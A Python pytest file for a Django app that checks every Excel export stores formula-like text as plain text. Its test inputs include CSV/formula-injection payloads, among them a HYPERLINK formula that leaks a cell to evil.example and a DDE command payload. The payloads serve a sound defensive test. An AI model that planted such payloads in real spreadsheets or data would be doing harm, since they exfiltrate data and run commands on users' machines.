"""The one workbook writer (branches.kernel.workbook): text that a spreadsheet would read as a
formula is written as text, in every export the app serves; nothing else writes workbooks."""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.db import transaction
from django.test import Client, override_settings
from django.urls import reverse

from branches.honours.models import Honour
from branches.kernel.workbook import XLSX_CONTENT_TYPE, Book
from branches.people.models import Person
from services.enterprises.models import Enterprise
from services.problems.models import Problem
from services.records import actions
from services.records.models import (
    Patrol,
    PracticalDeed,
    ServiceActivity,
    ServiceRecord,
)
from tests.app.access_matrix import build_world
from tests.app.test_access_matrix import MATRIX, checks_of

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def formula_cells(content):
    """(sheet, cell, value) of every cell of the workbook read as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def written(values):
    book = Book()
    sheet = book.sheet("Sheet", headers=["text"])
    for value in values:
        sheet.row([value])
    return openpyxl.load_workbook(io.BytesIO(book.content())).active


class TestCell:
    def test_text_that_looks_like_a_formula_is_written_as_text(self):
        sheet = written(HOSTILE)
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert [cell.value for cell in cells] == HOSTILE
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.quotePrefix for cell in cells)

    def test_numbers_and_dates_stay_numbers_and_dates(self):
        import datetime
        from decimal import Decimal

        sheet = written([3, Decimal("1.5"), datetime.date(2021, 3, 18), "plain", None])
        values = [row[0].value for row in sheet.iter_rows(min_row=2)]
        assert values[:3] == [3, 1.5, datetime.datetime(2021, 3, 18)]
        assert values[3] == "plain" and values[4] in (None, "")
        assert not sheet["A5"].quotePrefix

    def test_characters_a_workbook_cannot_hold_become_a_mark_not_an_error(self):
        assert written(["a\x00b\x07c"])["A2"].value == "a�b�c"


def test_nothing_but_the_kernel_writes_or_reads_workbooks():
    """openpyxl is imported in branches/kernel/workbook.py alone: a new export that writes its own
    workbook would bypass the rule above."""
    offenders = []
    for folder in ("branches", "services", "torchbearer"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.relative_to(ROOT).as_posix() == "branches/kernel/workbook.py":
                continue
            if re.search(r"^\s*(from|import) (openpyxl|xlsxwriter)\b", path.read_text(), re.MULTILINE):
                offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


# -- Every export the app serves ----------------------------------------------------------------

FORMULA = HOSTILE[0]
POISONED = {
    ServiceRecord: ["served_name", "notes"],
    PracticalDeed: ["beneficiary_name", "description", "result"],
    ServiceActivity: ["title", "place", "description"],
    Patrol: ["findings"],
    Problem: ["title", "description", "resolution"],
    Person: ["title"],
    Enterprise: ["name"],
    Honour: ["title"],
}


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker, tmp_path_factory):
    """The access matrix's world, its texts replaced by formulas, its records approved."""
    with override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media")), django_db_blocker.unblock():
        with transaction.atomic():
            world = build_world()
            reviewer = world.office.users["secretary_a"]
            for slug in ("service", "deed", "activity", "patrol"):
                record = getattr(world, slug)
                actions.approve(record, by=reviewer, seen=record.version)
            for model, fields in POISONED.items():
                model.objects.update(**{name: FORMULA for name in fields})
            yield world
            transaction.set_rollback(True)


def exports(world, user):
    """Every page of the access matrix that answers an Excel file to ``user``: (url, content)."""
    client = Client()
    client.force_login(user)
    found = []
    for key in MATRIX:
        for check in checks_of(key):
            if check.method != "GET":
                continue
            url = check.url(key, world)
            response = client.get(url)
            if response.get("Content-Type") == XLSX_CONTENT_TYPE:
                found.append((url, b"".join(response) if response.streaming else response.content))
    return found


def test_every_export_writes_formulas_as_text(poisoned, db):
    admin = poisoned.office.users["committee_admin"]
    found = exports(poisoned, admin)
    client = Client()
    client.force_login(admin)
    year = poisoned.service.date.year
    for query in [f"?year={year}", f"?year={year}&branch={poisoned.branch.pk}"]:
        found.append((reverse("annual-report-file", args=["xlsx"]) + query, client.get(reverse("annual-report-file", args=["xlsx"]) + query).content))
    names = {url.split("?")[0] for url, _content in found}
    for expected in ["services:record-export", "services:problem-export", "branches:person-export", "annual-report-file"]:
        assert any(reverse(expected, args=argument_for(expected)) == name for name in names), expected
    leaks = {url: formula_cells(content) for url, content in found if formula_cells(content)}
    assert leaks == {}
    texts = [cell for _url, content in found for cell in _values(content)]
    assert FORMULA in texts  # the poisoned texts were exported, as text


def test_django_admins_export_writes_formulas_as_text(poisoned, db, django_user_model):
    client = Client()
    client.force_login(django_user_model.objects.create_superuser("raw-data", password="long-enough-password"))
    response = client.post(reverse("admin:branches_person_export"), {"format": "0", "resource": "0"})
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert formula_cells(response.content) == []
    assert FORMULA in _values(response.content)


def argument_for(name):
    return ["service"] if name == "services:record-export" else ["xlsx"] if name == "annual-report-file" else []


def _values(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_small_file_with_a_value_a_million_rows_down_is_refused_without_reading_them_all():
    from django.core.exceptions import ValidationError

    from branches.kernel.workbook import MAX_READ_ROWS, read_rows

    book = openpyxl.Workbook()
    book.active["A1"] = "工号"
    book.active.cell(row=1_048_576, column=60, value="x")
    data = io.BytesIO()
    book.save(data)
    assert len(data.getvalue()) < 10_000
    with pytest.raises(ValidationError) as refused:
        read_rows(data.getvalue())
    assert refused.value.code == "too_many_rows"
    assert str(MAX_READ_ROWS) in refused.value.messages[0] or f"{MAX_READ_ROWS:,}" in refused.value.messages[0]
